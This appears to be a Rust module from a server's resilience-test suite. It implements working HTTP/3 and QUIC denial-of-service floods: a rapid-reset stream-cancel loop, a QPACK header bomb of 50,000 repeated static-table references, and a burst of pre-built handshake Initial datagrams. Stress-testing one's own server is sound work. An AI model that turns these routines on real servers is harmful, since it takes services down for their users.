//! Floods over QUIC.

use std::sync::Arc;

use anyhow::{Context, Result};
use quinn::VarInt;
use quinn::crypto::rustls::QuicClientConfig;
use tokio::net::UdpSocket;

use super::Target;
use crate::client::{Protocol, Quic, tls};

/// H3_REQUEST_CANCELLED.
const CANCELLED: VarInt = VarInt::from_u32(0x10c);
/// A control stream with empty SETTINGS.
const CONTROL: [u8; 3] = [0, 4, 0];
/// `:method GET`, `:scheme https`, `:authority x`, `:path /` by their indexes.
const GET: [u8; 8] = [0, 0, 0xd1, 0xd7, 0x50, 1, b'x', 0xc1];
/// The longest line of the static table.
const LONG: [u8; 2] = [0xff, 22];
/// How often it stands in one head.
const REPEATED: usize = 50_000;
/// Handshakes that are begun, each by a datagram made before the flood.
const INITIALS: usize = 2_000;
/// No Initial of a client is shorter (RFC 9000 section 14.1).
const SHORTEST: usize = 1_200;

/// HEADERS with this section.
fn headers(section: &[u8]) -> Vec<u8> {
    [&[1][..], &(section.len() as u32 | 0x8000_0000).to_be_bytes(), section].concat()
}

pub(super) async fn rapid_reset(target: &Target) -> Result<()> {
    let quic = Quic::connect(target.addr, &target.ca).await?;
    let quic = &quic.connection;
    let mut control = quic.open_uni().await?;
    control.write_all(&CONTROL).await?;
    let request = headers(&GET);
    while let Ok((mut send, mut recv)) = quic.open_bi().await {
        if send.write_all(&request).await.is_err() {
            break;
        }
        // They fail when the connection has gone, which the next stream tells.
        let _gone = (send.reset(CANCELLED), recv.stop(CANCELLED));
    }
    Ok(())
}

pub(super) async fn bomb(target: &Target) -> Result<()> {
    let quic = Quic::connect(target.addr, &target.ca).await?;
    let quic = &quic.connection;
    let mut control = quic.open_uni().await?;
    control.write_all(&CONTROL).await?;
    let request = headers(&[&GET[..], &LONG.repeat(REPEATED)].concat());
    while let Ok((mut send, mut recv)) = quic.open_bi().await {
        if send.write_all(&request).await.is_err() {
            break;
        }
        drop(send.finish());
        // Its answer, or the end of all.
        let _answer = recv.read_to_end(usize::MAX).await;
    }
    Ok(())
}

/// First datagrams of handshakes with `target`, none of which has been sent to it.
pub(super) async fn initials(target: &Target) -> Result<Vec<Vec<u8>>> {
    let sink = UdpSocket::bind("127.0.0.1:0").await?;
    let mut endpoint = quinn::Endpoint::client((std::net::Ipv4Addr::LOCALHOST, 0).into())?;
    let tls = Arc::new(tls::config(Some(&target.ca), Protocol::Http3)?);
    endpoint.set_default_client_config(quinn::ClientConfig::new(Arc::new(QuicClientConfig::try_from(tls)?)));
    let mut datagrams = Vec::with_capacity(INITIALS);
    let mut buffer = vec![0; 64 << 10];
    while datagrams.len() < INITIALS {
        let connecting = endpoint.connect(sink.local_addr()?, "localhost")?;
        // A segment of what the system may have put together.
        let (length, _) = sink.recv_from(&mut buffer).await.context("a client begins")?;
        drop(connecting);
        // What says goodbye is shorter.
        if length >= SHORTEST {
            datagrams.push(buffer[..length.min(SHORTEST)].to_vec());
        }
    }
    Ok(datagrams)
}

/// Sends them all, and goes.
pub(super) async fn send(target: &Target, initials: &[Vec<u8>]) -> Result<()> {
    let socket = UdpSocket::bind("127.0.0.1:0").await?;
    for datagram in initials {
        // A full buffer loses some, as the way would.
        let _lost = socket.send_to(datagram, target.addr).await;
    }
    Ok(())
}
